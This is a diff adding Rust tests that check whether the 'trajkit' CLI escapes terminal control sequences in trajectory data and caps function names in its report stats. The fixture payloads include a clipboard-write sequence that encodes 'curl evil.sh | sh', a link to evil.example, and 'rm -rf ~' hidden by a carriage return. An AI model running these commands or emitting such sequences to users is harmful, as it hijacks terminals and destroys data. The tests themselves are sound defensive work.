@@ -1,7 +1,8 @@
 //! `trajkit report` and `trajkit show`: the report's numbers against `stats` on the same input,
 //! the sample pipeline's outputs read whole (rejects by stage and rule), empty and oversized
 //! input, the page in headless Chromium (`tests/report/browser.py`); `show` by id and
-//! position, plain when piped, folded.
+//! position, plain when piped, folded; terminal escape sequences of the data escaped in `show`,
+//! `stats` and diagnostics; names from the data capped in the embedded `stats`.
 
 use std::path::{Path, PathBuf};
 use std::process::Command;
@@ -313,4 +314,217 @@ fn a_pipeline_report_key_writes_the_page_after_the_run() {
         .expect("runs");
     assert_eq!(o.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&o.stderr).contains("[report] reads an adp or parquet export"));
+}
+
+/// Terminal payloads of each kind: window title (OSC 0), clipboard write (OSC 52), hyperlink
+/// (OSC 8), clear screen, colours, the 8-bit CSI, carriage return and backspace, bell.
+const PAYLOADS: &[&str] = &[
+    "\x1b]0;owned\x07",
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
+    "\x1b[2J\x1b[H",
+    "\x1b[31mred\x1b[0m",
+    "\u{9b}2J\u{9b}31m",
+    "rm -rf ~\r# harmless comment",
+    "secret\x08\x08\x08\x08\x08\x08public",
+];
+
+/// A trajectory with `payload` in its id, a function name, a tool call id, an observation's
+/// name, its outcome and every text.
+fn hostile(i: usize, payload: &str) -> Value {
+    json!({"schema_version": "1.5.0", "id": format!("t{i}{payload}"),
+        "details": {"outcome": {"status": payload}},
+        "content": [
+        {"class_": "text_observation", "content": format!("ask {payload} end"), "name": null,
+         "source": "user"},
+        {"class_": "api_action", "function": format!("f{payload}"), "kwargs": {payload: payload},
+         "description": payload, "tool_call_id": format!("c{payload}")},
+        {"class_": "text_observation", "content": payload, "name": payload,
+         "source": "environment", "tool_call_id": format!("c{payload}")},
+        {"class_": "code_action", "language": "bash", "content": payload,
+         "description": null},
+        {"class_": "message_action", "content": payload, "description": null}]})
+}
+
+/// `text` without the SGR colour sequences `show` writes.
+fn without_colours(text: &str) -> String {
+    let mut out = String::new();
+    let mut rest = text;
+    while let Some(i) = rest.find("\x1b[") {
+        out.push_str(&rest[..i]);
+        let after = &rest[i + 2..];
+        let n = after
+            .find(|c: char| !(c.is_ascii_digit() || c == ';'))
+            .unwrap_or(after.len());
+        assert!(
+            after[n..].starts_with('m'),
+            "not a colour: {:?}",
+            &rest[i..]
+        );
+        rest = &after[n + 1..];
+    }
+    out.push_str(rest);
+    out
+}
+
+/// `text` as the docs say `show` writes it: control characters but newline and tab as `\u{HEX}`.
+fn escaped(text: &str) -> String {
+    text.chars()
+        .map(|c| match c {
+            '\n' | '\t' => c.to_string(),
+            c if c.is_control() => format!("\\u{{{:x}}}", u32::from(c)),
+            c => c.to_string(),
+        })
+        .collect()
+}
+
+fn assert_no_controls(what: &str, text: &str) {
+    let bad: Vec<char> = text
+        .chars()
+        .filter(|&c| c.is_control() && c != '\n' && c != '\t')
+        .collect();
+    assert!(bad.is_empty(), "{what}: {bad:?} in {text:?}");
+}
+
+#[test]
+fn show_escapes_the_control_characters_of_the_data_in_every_mode() {
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let file = tmp.path().join("hostile.jsonl");
+    let lines: Vec<String> = (PAYLOADS.iter().enumerate())
+        .map(|(i, p)| hostile(i, p).to_string())
+        .collect();
+    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
+    for (i, payload) in PAYLOADS.iter().enumerate() {
+        let shown = escaped(payload);
+        for color in ["never", "always", "auto"] {
+            let o = trajkit()
+                .args([
+                    "show",
+                    "--full",
+                    "--color",
+                    color,
+                    "--index",
+                    &i.to_string(),
+                ])
+                .arg(&file)
+                .output()
+                .expect("runs");
+            assert_eq!(
+                o.status.code(),
+                Some(0),
+                "{}",
+                String::from_utf8_lossy(&o.stderr)
+            );
+            let text = String::from_utf8(o.stdout).expect("utf-8");
+            assert_eq!(
+                color == "always",
+                text.contains('\x1b'),
+                "{color}: {text:?}"
+            );
+            let bare = without_colours(&text);
+            assert_no_controls(&format!("show --color {color}, {payload:?}"), &bare);
+            for part in [
+                format!("t{i}{shown}"),
+                format!("f{shown}"),
+                format!("ask {shown} end"),
+            ] {
+                assert!(bare.contains(&part), "{part:?} not in {bare}");
+            }
+        }
+    }
+    let id = format!("t0{}", PAYLOADS[0]);
+    let o = trajkit()
+        .args(["show", "--id", &format!("{id}x")])
+        .arg(&file)
+        .output()
+        .expect("runs");
+    assert_eq!(o.status.code(), Some(1));
+    assert_no_controls("show's error", &String::from_utf8_lossy(&o.stderr));
+}
+
+#[test]
+fn stats_and_diagnostics_escape_the_control_characters_of_the_data() {
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let file = tmp.path().join("hostile.jsonl");
+    let mut lines: Vec<String> = (PAYLOADS.iter().enumerate())
+        .map(|(i, p)| hostile(i, p).to_string())
+        .collect();
+    // Invalid records whose diagnostics quote the data: a source not in the schema's enum, a
+    // member name in the pointer, an id of the data.
+    for &p in PAYLOADS {
+        lines.push(
+            json!({"schema_version": "1.5.0", "id": p, "details": {}, "content": [
+                {"class_": "text_observation", "content": "x", "name": null, "source": p},
+                {"class_": "message_action", "content": "y", "description": null,
+                 "kwargs": {p: 1}}]})
+            .to_string(),
+        );
+    }
+    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
+    let o = trajkit().args(["stats"]).arg(&file).output().expect("runs");
+    assert_eq!(
+        o.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let table = String::from_utf8(o.stdout).expect("utf-8");
+    assert!(table.contains("f\\u{1b}]0;owned\\u{7}"), "{table}");
+    assert_no_controls("stats", &table);
+    assert_no_controls("stats' stderr", &String::from_utf8_lossy(&o.stderr));
+    let o = trajkit()
+        .args(["validate", "--report", "human"])
+        .arg(&file)
+        .output()
+        .expect("runs");
+    assert_eq!(o.status.code(), Some(1));
+    let text = String::from_utf8(o.stdout).expect("utf-8");
+    assert!(text.lines().count() >= PAYLOADS.len(), "{text}");
+    assert!(text.contains("\\u{9b}2J"), "{text}");
+    assert_no_controls("validate --report human", &text);
+    assert_no_controls("validate's stderr", &String::from_utf8_lossy(&o.stderr));
+    // Diagnostics on stderr: convert's rejects.
+    let o = trajkit()
+        .args(["convert", "--from", "adp", "-o"])
+        .arg(tmp.path().join("out.jsonl"))
+        .arg(&file)
+        .output()
+        .expect("runs");
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert!(stderr.contains("error["), "{stderr}");
+    assert_no_controls("convert's stderr", &stderr);
+}
+
+#[test]
+fn the_embedded_stats_keep_at_most_a_thousand_function_names() {
+    let tmp = tempfile::tempdir().expect("temp dir");
+    let file = tmp.path().join("many.jsonl");
+    let lines: Vec<String> = (0..20)
+        .map(|t| {
+            let content: Vec<Value> = (0..5000)
+                .map(|i| {
+                    json!({"class_": "api_action", "function": format!("tool_{t}_{i}"),
+                    "kwargs": {}, "description": null})
+                })
+                .collect();
+            json!({"schema_version": "1.5.0", "id": format!("t{t}"), "content": content,
+                "details": {}})
+            .to_string()
+        })
+        .collect();
+    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
+    let out = tmp.path().join("r.html");
+    let page = report(&[&file], &out);
+    let data = embedded(&page);
+    let functions = data["profile"]["stats"]["functions"]
+        .as_object()
+        .expect("functions");
+    assert_eq!(functions.len(), 1001);
+    assert_eq!(functions["(other)"], 99_000);
+    assert_eq!(
+        data["profile"]["stats"],
+        stats(&[&file]),
+        "stats caps alike"
+    );
+    assert!(page.len() < 200_000, "page of {} bytes", page.len());
 }
